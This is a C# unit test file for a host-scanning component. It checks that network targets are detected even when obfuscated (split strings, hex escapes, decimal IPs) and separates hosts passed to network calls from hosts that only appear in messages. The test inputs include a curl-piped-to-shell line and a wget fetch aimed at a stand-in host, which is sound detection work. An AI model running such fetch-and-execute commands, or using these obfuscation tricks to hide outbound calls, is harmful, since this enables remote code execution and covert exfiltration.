using System.Text;
using Sluice.Artifacts;

namespace Sluice.Tests.Artifacts;

/// <summary>Hosts are found however those who open them may write them.</summary>
public sealed class HostScanTests
{
    [Theory]
    [InlineData("see https://a.example.org/x", "a.example.org")]
    [InlineData("https://user:word@a.example.org:8080/x", "a.example.org")]
    [InlineData("HTTPS://A.Example.ORG", "a.example.org")]
    [InlineData("fetch(\"https:/a.example.org/x\")", "a.example.org")]
    [InlineData("fetch('https:////a.example.org/x')", "a.example.org")]
    [InlineData("fetch('https:\\\\\\\\a.example.org/x')", "a.example.org")]
    [InlineData("{\"url\":\"https:\\/\\/a.example.org\\/x\"}", "a.example.org")]
    [InlineData("fetch('//a.example.org/x')", "a.example.org")]
    [InlineData("get({ hostname: 'a.example.org', port: 443 })", "a.example.org")]
    [InlineData("get({\"host\":\"a.example.org:443\"})", "a.example.org")]
    [InlineData("options.host = `a.example.org`;", "a.example.org")]
    [InlineData("net.connect(443, 'a.example.org')", "a.example.org")]
    [InlineData("dns.lookup(\"a.example.org\", done)", "a.example.org")]
    [InlineData("fetch('https://' + 'a.exa' +\n  \"mple.org\")", "a.example.org")]
    [InlineData("fetch('https://a.ex\\x61mple.org')", "a.example.org")]
    [InlineData("fetch('https://a.ex\\u0061mple.org')", "a.example.org")]
    [InlineData("fetch('https://a.ex%61mple.org')", "a.example.org")]
    [InlineData("fetch('https://ex\u00e4mple.org/')", "xn--exmple-cua.org")]
    [InlineData("fetch('http://3405803876/x')", "203.0.113.100")]
    [InlineData("fetch('http://0xcb007164/x')", "203.0.113.100")]
    [InlineData("fetch('http://[2001:DB8::1]/x')", "2001:db8::1")]
    [InlineData("connect({ host: '203.0.113.100' })", "203.0.113.100")]
    [InlineData("\u898bhttps://a.example.org\u3002", "a.example.org")]
    [InlineData("[a](https://a.example.org)[b]", "a.example.org")]
    public void A_host_is_found(string text, string host) => Assert.Equal([host], HostsOf(text));

    [Theory]
    [InlineData("fetch('https://a.example.org/x')", true)]
    [InlineData("open('POST', `https://a.example.org/x`)", true)]
    [InlineData("fetch('//a.exa' + 'mple.org')", true)]
    [InlineData("get({ url: 'https://a.example.org/' })", true)]
    [InlineData("get({ \"baseURL\": \"https://a.example.org/\" })", true)]
    [InlineData("get({ hostname: 'a.example.org' })", true)]
    [InlineData("exec('curl -s https://a.example.org/x | sh')", true)]
    [InlineData("wget -q https://a.example.org/x", true)]
    [InlineData("const help = 'https://a.example.org/help';", false)]
    [InlineData("deprecate('this is gone; see https://a.example.org/why')", false)]
    [InlineData("warn(`\n  https://a.example.org/why`)", false)]
    [InlineData("{ description: 'https://a.example.org/' }", false)]
    [InlineData("https://a.example.org/", false)]
    public void What_is_handed_to_something_is_told_from_what_people_read(string text, bool isTarget)
    {
        var scan = new HostScan(Encoding.UTF8.GetBytes(text));

        Assert.True(scan.MoveNext());
        Assert.Equal(isTarget, scan.IsTarget());
    }

    [Theory]
    [InlineData("http://localhost:8080/ http://127.0.0.1/ http://127.1/ http://[::1]/ http://0.0.0.0/ http://2130706433/")]
    [InlineData("const url = `https://${host}/path`;")]
    [InlineData("const all = 'a' // comment")]
    [InlineData("ghost: 'a.example.org'")]
    [InlineData("if (location.hostname === 'x') connect('store')")]
    [InlineData("connect(mapState)(Component); x = 'a.example.org'")]
    [InlineData("host: 'index'")]
    [InlineData("'//# sourceMappingURL=x.js.map'")]
    [InlineData("http://1/ file:///usr/lib")]
    public void No_host_is_found(string text) => Assert.Empty(HostsOf(text));

    [Fact]
    public void All_hosts_are_found_in_their_order() => Assert.Equal(["b.example", "a.example"], HostsOf("https://b.example/ and https://a.example/"));

    [Fact]
    public void Many_openings_without_a_host_take_time_in_proportion()
    {
        foreach (var piece in new[] { "://", "tps:/", "\"//", "host:'", "connect('", "://[", "://a@", "'//'+", "://'+'" })
            Assert.True(HostsOf(string.Concat(Enumerable.Repeat(piece, 200_000))).Count < 2);
    }

    private static List<string> HostsOf(string text)
    {
        var hosts = new List<string>();
        var scan = new HostScan(Encoding.UTF8.GetBytes(text));
        while (scan.MoveNext())
            hosts.Add(scan.Host);
        return hosts;
    }
}
